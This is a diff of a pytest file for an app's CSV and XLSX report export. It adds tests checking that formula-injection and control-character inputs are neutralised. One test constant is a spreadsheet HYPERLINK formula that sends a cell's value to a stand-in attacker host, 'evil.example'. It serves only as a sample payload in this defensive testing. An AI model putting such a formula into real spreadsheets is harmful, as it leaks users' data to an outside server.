@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import zipfile
 
 import openpyxl
 import pandas as pd
@@ -13,7 +14,7 @@ from imh_desktop.domain.errors import DomainError
 from imh_desktop.reports.labels import label
 from imh_desktop.services.common import export
 from imh_desktop.services.team import dashboard as team
-from tests.services.team.test_dashboard import TODAY, build_agency
+from tests.factories import TODAY
 
 NOV = team.period_for("this_month", TODAY)
 
@@ -27,8 +28,7 @@ def out(tmp_path):
 
 
 @pytest.fixture
-def data(as_user, staff):
-    agency = build_agency(as_user, staff)
+def data(as_user, agency):
     return team.load_team(as_user(agency.ids["ssupervisor"]), NOV)
 
 
@@ -53,8 +53,9 @@ def test_team_table_to_xlsx(data, out):
     assert ana[percent].number_format == "0%"
     assert ana[titles.index("Expected")].number_format == "0.0"
     assert ana[titles.index("Late notes")].value == 3
-    # "Specialist" is as wide as its longest name plus a margin; every column has a width
-    assert ws.column_dimensions["A"].width == len("Ana Specialist") + 2
+    # "Specialist" is as wide as its longest name plus a margin (XlsxWriter adds the
+    # font's padding, under one character); every column has a width
+    assert ws.column_dimensions["A"].width == pytest.approx(len("Ana Specialist") + 2, abs=1)
     letters = [openpyxl.utils.get_column_letter(i + 1) for i in range(len(titles))]
     assert all(
         ws.column_dimensions[x].width >= len(t) for x, t in zip(letters, titles, strict=True)
@@ -115,15 +116,71 @@ def team_actor(db) -> int:
     return find_staff(db, "ssupervisor").id
 
 
-def test_failed_write_keeps_the_old_file_and_leaves_no_temp(data, out):
+def test_failed_write_keeps_the_old_file_and_leaves_no_temp(data, out, monkeypatch):
+    import xlsxwriter
+
     target = out / "team.xlsx"
     target.write_bytes(b"the previous export")
-    bad = data.team.copy()
-    bad.loc[0, "specialist"] = "Ana\x01"  # a control character Excel files cannot hold
-    with pytest.raises(Exception, match="cannot be used in worksheets"):
-        export.write_xlsx(bad, team.TEAM_COLUMNS, target)
+
+    def broken_close(self):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(xlsxwriter.Workbook, "close", broken_close)
+    with pytest.raises(OSError, match="No space left"):
+        export.write_xlsx(data.team, team.TEAM_COLUMNS, target)
     assert target.read_bytes() == b"the previous export"
     assert [p.name for p in out.iterdir()] == ["team.xlsx"]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&D2,"Open record")'
+
+
+def hostile_frame(data):
+    bad = data.team.copy()
+    bad["specialist"] = bad["specialist"].astype(object)
+    bad.loc[0, "specialist"] = HOSTILE
+    bad.loc[1, "specialist"] = "Ben\x00\x07 Spec\x1bialist\ttab"
+    return bad
+
+
+def test_csv_neutralises_formulas_and_drops_control_characters(data, out):
+    path = export.write_csv(hostile_frame(data), team.TEAM_COLUMNS, out / "team.csv")
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[1][0] == "'" + HOSTILE  # OWASP: a leading quote makes it text
+    assert rows[2][0] == "Ben Specialist\ttab"
+    assert "\x00" not in path.read_text(encoding="utf-8-sig")
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_prefix_is_neutralised(prefix):
+    assert export.csv_cell(prefix + "1+1").startswith("'")
+    assert export.csv_cell("1+1") == "1+1" and export.csv_cell(-3) == -3
+
+
+def test_xlsx_writes_user_text_as_text_never_a_formula(data, out):
+    path = export.write_xlsx(hostile_frame(data), team.TEAM_COLUMNS, out / "team.xlsx")
+    ws = openpyxl.load_workbook(path).active
+    cell = ws["A2"]
+    assert cell.data_type == "s" and cell.value == HOSTILE  # a string cell, not "f"
+    assert cell.quotePrefix  # Excel keeps it text when someone edits the cell
+    assert ws["A3"].value == "Ben Specialist\ttab" and ws["A3"].data_type == "s"
+    with zipfile.ZipFile(path) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no formula anywhere in the file
+
+
+def test_rows_of_display_text_are_written_the_same_safe_way(out):
+    header = ["Family", "Caregiver"]
+    rows = [["=1+1 family", "@SUM(A1)"], ["Okafor\x07 family", "-2"]]
+    csv_path = export.write_rows(header, rows, out / "t.csv", "csv")
+    with csv_path.open(encoding="utf-8-sig", newline="") as f:
+        assert list(csv.reader(f)) == [header, ["'=1+1 family", "'@SUM(A1)"],
+                                       ["Okafor family", "'-2"]]  # fmt: skip
+    ws = openpyxl.load_workbook(export.write_rows(header, rows, out / "t.xlsx", "xlsx")).active
+    assert [[c.value for c in r] for r in ws.iter_rows()] == [header, *[
+        ["=1+1 family", "@SUM(A1)"], ["Okafor family", "-2"]]]  # fmt: skip
+    assert all(c.data_type == "s" for r in ws.iter_rows() for c in r)
 
 
 @pytest.mark.parametrize(
